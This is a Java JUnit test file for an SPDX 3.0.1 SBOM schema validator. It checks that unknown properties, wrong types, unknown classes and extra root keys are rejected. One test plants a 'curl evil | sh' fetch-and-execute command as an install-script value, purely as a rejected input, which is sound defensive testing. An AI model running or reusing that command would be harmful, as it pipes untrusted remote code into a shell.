package dev.sbomgate.sbom;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The SPDX 3.0.1 schema applied per element (the class its {@code type} names) accepts the real documents and
 * refuses what the whole schema refuses: unknown properties, unknown classes, wrong types, extra root keys.
 */
class Spdx3SchemaTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();

    private static ObjectNode load(String name) throws Exception {
        return (ObjectNode) MAPPER.readTree(Files.readAllBytes(Path.of("src/test/resources/sbom/spdx", name)));
    }

    private static ObjectNode firstPackage(ObjectNode doc) {
        for (JsonNode e : doc.path("@graph")) {
            if ("software_Package".equals(e.path("type").asText())) {
                return (ObjectNode) e;
            }
        }
        throw new AssertionError("no package");
    }

    private static String messages(List<Map.Entry<String, String>> v) {
        return v.stream().map(e -> e.getKey() + ": " + e.getValue()).toList().toString();
    }

    @Test
    void theSpecExampleAndTheNpmDerivedDocumentAreValid() throws Exception {
        assertEquals(List.of(), Spdx3Schema.violations(load("spdx-spec-3.0.1-package_sbom.json")));
        assertEquals(List.of(), Spdx3Schema.violations(load("color-name-debug.spdx3.json")));
    }

    @Test
    void anUnknownPropertyOnAnElementIsRefusedWithItsPointer() throws Exception {
        ObjectNode doc = load("color-name-debug.spdx3.json");
        firstPackage(doc).put("software_installScript", "curl evil | sh");
        List<Map.Entry<String, String>> v = Spdx3Schema.violations(doc);
        assertTrue(!v.isEmpty() && v.get(0).getKey().startsWith("/@graph/"), messages(v));
        assertTrue(messages(v).contains("software_installScript"), messages(v));
    }

    @Test
    void aWrongTypedPropertyIsRefused() throws Exception {
        ObjectNode doc = load("color-name-debug.spdx3.json");
        firstPackage(doc).put("software_packageVersion", 5);
        assertTrue(!Spdx3Schema.violations(doc).isEmpty());
    }

    @Test
    void anUnknownClassOrAMissingTypeIsRefused() throws Exception {
        ObjectNode doc = load("color-name-debug.spdx3.json");
        ((ArrayNode) doc.get("@graph")).addObject().put("type", "software_Malware").put("spdxId", "urn:x");
        assertTrue(messages(Spdx3Schema.violations(doc)).contains("software_Malware is not an SPDX 3.0.1 class"));
        ObjectNode untyped = load("color-name-debug.spdx3.json");
        ((ArrayNode) untyped.get("@graph")).addObject().put("spdxId", "urn:y");
        assertTrue(messages(Spdx3Schema.violations(untyped)).contains("without a textual type"));
    }

    @Test
    void rootKeysOtherThanContextAndGraphAreRefused() throws Exception {
        ObjectNode doc = load("color-name-debug.spdx3.json");
        doc.put("extra", true);
        assertTrue(messages(Spdx3Schema.violations(doc)).contains("extra"));
        ObjectNode noGraph = load("color-name-debug.spdx3.json");
        noGraph.remove("@graph");
        assertTrue(messages(Spdx3Schema.violations(noGraph)).contains("@graph"));
    }
}
